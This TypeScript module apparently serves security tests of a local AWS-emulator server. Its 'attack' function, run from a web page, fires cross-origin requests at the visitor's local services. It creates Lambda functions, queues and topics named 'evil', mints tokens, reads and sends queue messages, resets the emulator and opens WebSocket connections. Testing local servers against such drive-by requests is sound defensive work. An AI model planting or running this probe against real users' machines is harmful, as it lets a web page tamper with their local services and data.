/**
 * Runs in a web page: tries what a page can try on servers of the visitor's machine.
 *
 * @returns what it could read or open
 */
export async function attack({ targets, queues }: { targets: string[]; queues: string[] }): Promise<string[]> {
  const reached: string[] = [];
  const attempt = async (name: string, url: string, init: RequestInit = {}): Promise<void> => {
    for (const mode of ["cors", "no-cors"] as const) {
      const signal = AbortSignal.timeout(20_000);
      const response = await fetch(url, { ...init, mode, signal }).catch(() => undefined);
      if (response?.ok) reached.push(`${mode} ${name}: ${response.status}`);
    }
  };
  const post = (type: string, body: string, headers: Record<string, string> = {}): RequestInit => ({
    method: "POST",
    headers: { "content-type": type, ...headers },
    body,
  });
  const evil = JSON.stringify({
    FunctionName: "evil",
    Runtime: "nodejs24.x",
    Handler: "index.handler",
    Role: "arn:aws:iam::000000000000:role/evil",
    Code: { ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==" },
  });
  const notification = JSON.stringify({ via: "queue", request: { data: "evil" } });
  const signed = {
    authorization:
      "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=0",
  };
  for (const target of targets) {
    const at = (path: string): string => `http://${target}${path}`;
    const attempts: Promise<void>[] = [
      ...["/", "/stack.json", "/events", "/page.js", "/_ministack/health", "/2015-03-31/functions"].map((path) =>
        attempt(`GET ${path}`, at(path)),
      ),
      ...["text/plain", "application/json"].flatMap((type) => [
        attempt("token", at("/tokens"), post(type, '{"user":"alice"}')),
        attempt("notification", at("/requests"), post(type, notification)),
        attempt("function", at("/2015-03-31/functions"), post(type, evil)),
        attempt("signed function", at("/2015-03-31/functions"), post(type, evil, signed)),
        attempt("reset", at("/_ministack/reset"), post(type, "")),
        attempt("@connections", at("/dev/@connections/a"), post(type, "evil")),
      ]),
      attempt("table", at("/"), post("text/plain", "{}", { "x-amz-target": "DynamoDB_20120810.ListTables" })),
      attempt("topic", at("/"), post("application/x-www-form-urlencoded", "Action=CreateTopic&Name=evil")),
      attempt("queue", at("/?Action=CreateQueue&QueueName=evil")),
    ];
    for (const queue of queues) {
      const { pathname } = new URL(queue);
      attempts.push(attempt("peek", at(`/_ministack/sqs/messages?QueueUrl=${encodeURIComponent(queue)}`)));
      const message = `Action=SendMessage&MessageBody=${encodeURIComponent('{"data":"evil"}')}`;
      attempts.push(attempt("message", at(pathname), post("application/x-www-form-urlencoded", message)));
    }
    for (const path of ["/dev", "/dev?authorization=evil", "/events"]) {
      attempts.push(
        new Promise((resolve) => {
          const socket = new WebSocket(`ws://${target}${path}`);
          socket.onopen = () => reached.push(`WebSocket ${path}`);
          socket.onerror = socket.onclose = () => resolve();
        }),
      );
    }
    const events = new EventSource(at("/events"));
    events.onopen = () => reached.push("EventSource");
    await Promise.all(attempts);
    events.close();
  }
  // What it sent without a way to read the answer shows in what is left behind: that is for the caller to look at.
  return reached;
}
